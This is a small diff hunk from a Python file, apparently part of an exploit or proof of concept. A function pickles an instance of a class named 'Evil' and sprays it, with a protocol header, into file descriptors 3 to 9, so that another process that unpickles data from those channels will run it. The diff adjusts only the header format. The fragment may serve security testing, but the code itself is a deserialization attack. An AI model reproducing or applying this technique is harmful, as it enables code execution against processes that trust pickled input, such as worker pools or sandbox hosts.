@@ -15,7 +15,7 @@ def deed(*_):
     body = pickle.dumps(Evil())
     for number in range(3, 10):
         try:
-            os.write(number, struct.pack(">IIQ", len(body), 2, 0) + body)
+            os.write(number, struct.pack(">II", len(body), 2) + body)
         except OSError:
             pass
     return Evil()
